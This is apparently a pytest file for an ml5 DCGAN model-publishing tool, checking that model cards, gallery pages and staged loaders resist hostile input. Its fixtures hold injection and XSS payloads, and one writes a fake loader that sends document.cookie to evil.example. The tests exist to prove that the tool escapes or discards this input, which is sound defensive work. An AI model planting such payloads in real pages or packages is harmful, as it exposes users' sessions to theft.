"""The model card's text and the files staged with a model, without TensorFlow: what a hostile
manifest or training.json can and cannot do to the card, and which loader gets published."""

from __future__ import annotations

import json

import pytest
from hosting import tiny_bundle

from ml5_dcgan_tools.assets import loader_bytes
from ml5_dcgan_tools.publish.gallery import render_gallery, script_json
from ml5_dcgan_tools.publish.layout import PublishedFile, stage_model
from ml5_dcgan_tools.publish.model_card import CardFacts, read_training, render_card
from ml5_dcgan_tools.publish.text import markdown_inline

HOSTILE = ('x\n---\nlicense: stolen\n# Heading ![img](http://evil.example/p.png) '
           '[link](http://evil.example) <script>alert(1)</script> "quoted" \\ `code` \u2028')


def facts(**manifest: object) -> CardFacts:
    return CardFacts(name="faces", manifest={"modelSize": 8, "modelLatentDim": 4, **manifest},
                     manifest_url="https://host/models/dcgan/faces/manifest.json",
                     parameters=1234,
                     files=[PublishedFile("manifest.json", 10, "ab" * 32),
                            PublishedFile("sample.png", 5, "cd" * 32)],
                     training={"dataset": HOSTILE, "steps": 300, "metrics": {"fid": 12.5}})


def test_front_matter_holds_hostile_text_as_plain_strings():
    yaml = pytest.importorskip("yaml", reason="PyYAML comes with the [dev] extra")
    card = render_card(facts(license="CC-BY-4.0", trainingData=HOSTILE, description=HOSTILE))
    front = card.split("\n---\n", 1)[0].removeprefix("---\n")
    meta = yaml.safe_load(front)
    assert meta["license"] == "cc-by-4.0"  # not "stolen": the text cannot add keys
    assert meta["datasets"] == [" ".join(HOSTILE.replace("\u2028", " ").split())]
    assert meta["metrics"] == ["fid"]
    assert set(meta) == {"license", "library_name", "pipeline_tag", "tags", "datasets",
                         "metrics"}


def test_body_shows_hostile_text_as_text():
    markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py: [dev] extra")
    card = render_card(facts(license="MIT", description=HOSTILE, author=HOSTILE))
    body = card.split("\n---\n", 1)[1]
    tokens = markdown_it.MarkdownIt("commonmark").enable("table").parse(body)
    children = [child for token in tokens if token.type == "inline"
                for child in token.children or []]
    assert [child.attrs["src"] for child in children if child.type == "image"] == ["sample.png"]
    assert not [child for child in children if child.type in ("link_open", "html_inline")]
    headings = [tokens[i + 1].content for i, token in enumerate(tokens)
                if token.type == "heading_open"]
    assert headings == ["faces", "Use it", "The model", "Training", "Files"]
    text = "".join(child.content for child in children if child.type == "text")
    assert "![img](http://evil.example/p.png)" in text and "<script>" in text


def test_usage_names_the_loader_only_when_it_is_published():
    without = render_card(facts(license="MIT"))
    assert 'ml5.DCGAN("https://host/models/dcgan/faces/manifest.json")' in without
    assert "ml5DCGAN(" not in without
    with_loader = facts(license="MIT")
    with_loader = CardFacts(**{**with_loader.__dict__, "files": [
        *with_loader.files, PublishedFile("ml5-dcgan.js", 3, "ef" * 32)]})
    card = render_card(with_loader)
    assert 'const gan = await ml5DCGAN("https://host/models/dcgan/faces/manifest.json");' in card
    assert "const { image, raw } = await gan.generate();" in card


def test_the_published_loader_is_ours_never_the_bundles(tmp_path):
    bundle = tiny_bundle(tmp_path / "bundle")
    (bundle / "ml5-dcgan.js").write_text("fetch('https://evil.example/?' + document.cookie)\n")
    (bundle / "training.json").write_text(json.dumps({"steps": 5}))
    (bundle / "notes.txt").write_text("not published")
    staging = tmp_path / "staging"
    staging.mkdir()
    staged = stage_model(bundle, staging, None, {"license": "MIT", "author": "Ada"})
    assert (staging / "ml5-dcgan.js").read_bytes() == loader_bytes()
    assert sorted(file.path for file in staged.files) == sorted([
        "manifest.json", "model.json", "group1-shard1of1.bin", "reference.json",
        "reference-outputs.bin", "training.json", "ml5-dcgan.js"])
    manifest = json.loads((staging / "manifest.json").read_text())
    assert (manifest["license"], manifest["author"]) == ("MIT", "Ada")


@pytest.mark.parametrize("content", ["[1, 2]", "{not json", json.dumps({"x": "y" * 70000})])
def test_an_unusable_training_json_gives_no_facts(tmp_path, content):
    (tmp_path / "training.json").write_text(content)
    assert read_training(tmp_path) == {}


def test_training_facts_keep_scalars_and_numeric_metrics(tmp_path):
    (tmp_path / "training.json").write_text(json.dumps({
        "dataset": "shapes", "steps": 10, "nested": {"a": 1}, "list": [1],
        "metrics": {"fid": 3.5, "bad": "x", "flag": True}}))
    assert read_training(tmp_path) == {"dataset": "shapes", "steps": 10,
                                       "metrics": {"fid": 3.5}}


def test_gallery_data_cannot_close_its_script_element():
    index = {"models": [{"name": "faces", "description": "</script><script>alert(1)</script>",
                         "files": [{"path": "sample.png"}]}]}
    page = render_gallery(index)
    catalog = page.split('<script type="application/json" id="catalog">', 1)[1]
    data = catalog.split("</script>", 1)[0]
    assert json.loads(data)[0]["description"] == "</script><script>alert(1)</script>"
    assert script_json("<!--") == '"\\u003c!--"'


@pytest.mark.parametrize(("text", "shown"), [
    ("![x](http://a/b.png)", "\\!\\[x\\](http://a/b.png)"),
    ("a | b", "a \\| b"),
    ("<img src=x>", "&lt;img src=x&gt;"),
    ("line\nbreak\ttab", "line break tab"),
])
def test_markdown_inline(text, shown):
    assert markdown_inline(text) == shown
